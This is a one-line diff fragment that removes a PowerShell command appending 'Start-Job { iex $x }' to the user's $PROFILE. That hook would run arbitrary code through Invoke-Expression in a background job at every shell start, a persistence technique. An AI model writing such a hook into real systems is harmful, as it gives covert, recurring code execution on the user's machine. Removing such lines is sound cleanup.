@@ -1,1 +1,0 @@
-Add-Content $PROFILE 'Start-Job { iex $x }'
